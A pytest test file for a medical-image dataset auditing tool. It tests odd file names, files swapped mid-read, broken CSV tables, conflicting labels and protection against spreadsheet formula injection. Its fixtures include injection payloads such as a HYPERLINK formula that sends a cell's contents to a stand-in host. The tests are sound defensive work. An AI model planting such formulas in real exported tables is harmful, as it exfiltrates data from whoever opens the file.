"""Faults 49 to 53 of tables and logs, and cells that a spreadsheet would compute (23)."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pandas as pd
import pytest

from overread.cases.audit.audit import audit
from overread.cases.audit.fingerprints import take_fingerprints
from overread.cases.cases import Cases
from overread.cases.sources.read_cases import read_cases
from overread.core import files
from overread.core.errors import OverreadError
from overread.core.progress import silent
from overread.images.preprocess import Preprocess
from overread.images.read import read_image
from overread.images.store import pack
from overread.predictions import Predictions
from overread.tasks.target import Target

posix = pytest.mark.skipif(os.name != "posix", reason="a name that Windows does not allow")
Refused = Callable[..., OverreadError]
FORMULAS = ('=HYPERLINK("http://x/"&A1)', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


def picture(seed: int, side: int = 40) -> np.ndarray:
    small = np.random.default_rng(seed).uniform(0, 255, (6, 6, 3)).astype(np.float32)
    return np.clip(cv2.resize(small, (side, side), interpolation=cv2.INTER_CUBIC), 0, 255).astype(np.uint8)


def png(seed: int) -> bytes:
    return cv2.imencode(".png", picture(seed))[1].tobytes()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    for i in range(8):
        (tmp_path / f"{i}.png").write_bytes(png(i))
    return tmp_path


def table(folder: Path, text: str | bytes, name: str = "t.csv") -> Path:
    path = folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def rows(count: int = 8) -> str:
    return "".join(f"{i}.png,p{i},{'yes' if i % 2 else 'no'}\n" for i in range(count))


HEAD = "image,patient,label\n"

# -- 49 a newline in a file name -----------------------------------------------------------------------------------


@posix
@pytest.mark.parametrize("name", ["a\nb.png", "a\r.png", "a\x1b[31mb.png", "a\x00b.png", "\u202egnp.png"])
def test_49_a_control_character_in_a_file_name_is_a_name_like_others(folder: Path, refused: Refused, name: str) -> None:
    text = HEAD + rows() + f'"{name}",p9,yes\n'
    if "\0" in name:  # no file can have it
        refused(fingerprint_of, table(folder, text), folder)
        return
    (folder / name).write_bytes(png(99))
    (folder / f"cut {name}").write_bytes(png(99)[:60])
    cases = read_cases(table(folder, text), label="label", names="keep")
    prints = take_fingerprints(cases)
    assert (prints["error"] == "").all()
    assert prints["digest"].iloc[-1] == hashlib.sha256(png(99)).hexdigest()
    error = refused(read_image, folder / f"cut {name}")
    assert str(error).isprintable()
    cases.save(folder / "cases.csv")
    assert Cases.load(folder / "cases.csv").table["image"].tolist() == cases.table["image"].tolist()


def fingerprint_of(path: Path, folder: Path) -> pd.DataFrame:
    """Raises if the last image of the table cannot be read."""
    cases = read_cases(path, label="label", names="keep")
    prints = take_fingerprints(cases)
    if prints["error"].iloc[-1]:
        raise OverreadError(prints["error"].iloc[-1])
    return prints


@posix
def test_49_the_pack_and_the_audit_take_such_names(folder: Path) -> None:
    names = [f"{i}\n{i}.png" for i in range(8)]
    for i, name in enumerate(names):
        (folder / name).write_bytes(png(i))
    made = pack([str(folder / name) for name in names], Preprocess((16, 16)), folder / "cache")
    assert not made.failed
    text = HEAD + "".join(f'"{name}",p{i},{"yes" if i % 2 else "no"}\n' for i, name in enumerate(names))
    found = audit(read_cases(table(folder, text), label="label", names="keep"))
    assert not found.excluded
    assert all("\n" not in finding.message for finding in found.findings)


# -- 50 an image is replaced between hashing and reading -----------------------------------------------------------


def test_50_the_digest_is_of_the_bytes_decoded_while_the_file_changes(tmp_path: Path) -> None:
    """A file that is exchanged all the while: whatever is seen, the digest and the pixels belong together."""
    versions = [png(i) for i in range(2)]
    truth = {hashlib.sha256(data).hexdigest(): picture(i)[..., ::-1] for i, data in enumerate(versions)}
    path, stop = tmp_path / "a.png", threading.Event()
    path.write_bytes(versions[0])

    def exchange() -> None:
        turn = 0
        while not stop.is_set():
            turn += 1
            (tmp_path / "b.png").write_bytes(versions[turn % 2])
            os.replace(tmp_path / "b.png", path)

    thread = threading.Thread(target=exchange)
    thread.start()
    try:
        seen = [read_image(path) for _ in range(300)]
    finally:
        stop.set()
        thread.join()
    assert all(np.array_equal(image.pixels, truth[image.digest]) for image in seen)


def test_50_the_pack_refuses_an_image_that_changed_since_the_audit(folder: Path, refused: Refused) -> None:
    addresses = [str(folder / f"{i}.png") for i in range(8)]
    digests = [hashlib.sha256(png(i)).hexdigest() for i in range(8)]
    (folder / "5.png").write_bytes(png(50))
    error = refused(pack, addresses, Preprocess((16, 16)), folder / "cache", digests=digests)
    assert "changed" in str(error)
    assert not list((folder / "cache").rglob("index.json"))


def test_50_an_image_that_changes_after_hashing_is_noticed_in_the_pack(folder: Path, refused: Refused) -> None:
    addresses = [str(folder / f"{i}.png") for i in range(8)]

    def meddle(what: str, done: int, total: int) -> None:
        if what == "hashing images" and done == total:
            (folder / "3.png").write_bytes(png(30))

    assert "changed" in str(refused(pack, addresses, Preprocess((16, 16)), folder / "cache", progress=meddle))
    made = pack(addresses, Preprocess((16, 16)), folder / "cache", progress=silent)
    assert made.digests[3] == hashlib.sha256(png(30)).hexdigest()


# -- 51 the table itself -------------------------------------------------------------------------------------------


def test_51_a_byte_order_mark_is_no_part_of_the_first_name(folder: Path) -> None:
    cases = read_cases(table(folder, b"\xef\xbb\xbf" + (HEAD + rows()).encode()), names="keep")
    assert cases.table["image"].tolist() == [f"{i}.png" for i in range(8)]


@pytest.mark.parametrize("mark", [b"\xff\xfe", b"\xfe\xff"])
def test_51_utf_16_is_read_and_told(folder: Path, mark: bytes) -> None:
    text = (HEAD + rows()).encode("utf-16-le" if mark == b"\xff\xfe" else "utf-16-be")
    cases = read_cases(table(folder, mark + text), names="keep")
    assert cases.table["image"].tolist() == [f"{i}.png" for i in range(8)]
    assert "table: read as UTF-16" in cases.notes


def test_51_a_quoted_newline_stays_in_its_cell(folder: Path) -> None:
    text = "image,patient,label,site\n" + "".join(
        f'{i}.png,p{i},{"yes" if i % 2 else "no"},"a\nb, ""c"""\n' for i in range(8)
    )
    cases = read_cases(table(folder, text), label="label", subgroups=["site"], names="keep")
    assert len(cases) == 8
    assert set(cases.table["site"]) == {'a\nb, "c"'}


@pytest.mark.parametrize(
    "text",
    [
        "image,label,label\n0.png,yes,no\n",  # a column twice
        "image,label\n0.png,yes,extra\n",  # ragged
        'image,label\n"0.png,yes\n',  # a quote that never ends
        "image,label\n",  # no rows
        "",
    ],
)
def test_51_a_broken_table_is_refused(folder: Path, refused: Refused, text: str) -> None:
    refused(read_cases, table(folder, text), label="label")


def test_51_an_identifier_that_stands_twice_is_refused_or_told(folder: Path, refused: Refused) -> None:
    text = "image,case,patient,label\n0.png,a,p,yes\n1.png,a,q,yes\n2.png,b,r,no\n"
    error = refused(read_cases, table(folder, text), label="label", case="case", patient="patient")
    assert "a" in str(error)
    refused(read_cases, table(folder, HEAD + rows() + "0.png,p0,yes\n"), label="label")
    told = read_cases(table(folder, HEAD + rows() + "0.png,p0,no\n"), label="label")
    assert len(told) == 8
    assert any("1 rows say again what another says" in note for note in told.notes)


@pytest.mark.parametrize("columns", [20_000, 1_000_000])
def test_51_a_million_columns_are_refused(folder: Path, refused: Refused, columns: int) -> None:
    text = "image,label," + ",".join(f"c{i}" for i in range(columns)) + "\n" + "0.png,yes" + "," * columns + "\n"
    assert "columns" in str(refused(read_cases, table(folder, text), label="label"))


def test_51_a_header_that_never_ends_is_refused(folder: Path, refused: Refused) -> None:
    refused(read_cases, table(folder, "image,label," + "x" * 20_000_000), label="label")


# -- 52 the same image with two labels -----------------------------------------------------------------------------


def test_52_the_same_image_with_two_labels_is_listed(folder: Path) -> None:
    again = cv2.imencode(".png", picture(3), [cv2.IMWRITE_PNG_COMPRESSION, 1])[1].tobytes()
    (folder / "again.png").write_bytes(again)  # other bytes, the same pixels
    (folder / "copy.png").write_bytes(png(2))
    text = HEAD + rows() + "again.png,p20,no\ncopy.png,p21,no\n"
    cases = read_cases(table(folder, text), label="label", names="keep")
    found = audit(cases)
    conflict = found.of("conflicting-label")
    assert conflict is not None
    assert set(conflict.cases) == {"3", "again"}
    assert ("2", "copy", "exact") in found.pairs


# -- 53 what was installed -----------------------------------------------------------------------------------------


def test_53_the_continuous_integration_says_what_it_installed(root: Path) -> None:
    script = (root / ".ci/run").read_text(encoding="utf-8")
    lines = [line for line in script.splitlines() if not line.lstrip().startswith("#")]
    shown = next(i for i, line in enumerate(lines) if "pip freeze" in line)
    tested = next(i for i, line in enumerate(lines) if 'make "$check"' in line)
    assert shown < tested


# -- 23 cells that a spreadsheet would compute ---------------------------------------------------------------------


def dangerous(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would compute."""
    with open(path, encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(io.StringIO(handle.read(), newline="")) for cell in row]
    return [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and cell and not _is_number(cell)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def sick() -> pd.DataFrame:
    n = len(FORMULAS)
    return pd.DataFrame(
        {"image": [f"{i}.png" for i in range(n)], "case": list(FORMULAS), "patient": list(FORMULAS), "source": FORMULAS[0], "view": "",
         "time": "", "split": "test", "label": ["no", "yes"] * (n // 2), "@site": FORMULAS[1], "dose": np.linspace(-1, 1, n)}
    )  # fmt: skip


def test_23_tables_are_written_so_that_nothing_is_computed(tmp_path: Path) -> None:
    path = files.write_csv(tmp_path / "t.csv", sick())
    assert not dangerous(path)
    read = files.unguarded(pd.read_csv(path, dtype=str, keep_default_na=False))
    assert read["case"].tolist() == list(FORMULAS)
    assert "@site" in read


def test_23_cases_survive_their_file(tmp_path: Path) -> None:
    cases = Cases(sick(), Target("binary", ("no", "yes"), ("yes",)), str(tmp_path))
    assert not dangerous(cases.save(tmp_path / "cases.csv"))
    assert Cases.load(tmp_path / "cases.csv") == cases


def test_23_predictions_survive_their_file(tmp_path: Path) -> None:
    made = sick()[["case", "patient", "split", "source", "@site", "label"]].assign(**{"p:no": 0.25, "p:yes": 0.75})
    made["case"] = [f"{formula} {i}" for i, formula in enumerate(FORMULAS)]  # blanks before a name are no part of it
    predictions = Predictions(made, Target("binary", ("no", "yes"), ("yes",)))
    assert not dangerous(predictions.save(tmp_path / "predictions.csv"))
    again: Any = Predictions.read(tmp_path / "predictions.csv", positive=("yes",))
    assert again == predictions


@pytest.mark.parametrize("module", ["cases/cases.py", "cases/split.py", "predictions.py", "study/steps.py"])
def test_23_nothing_writes_a_table_on_its_own(root: Path, module: str) -> None:
    """Where a CSV file is written it goes through ``overread.core.files.write_csv``; hashing and Parquet may differ."""
    text = (root / "src/overread" / module).read_text(encoding="utf-8")
    assert ".to_csv(beside" not in text
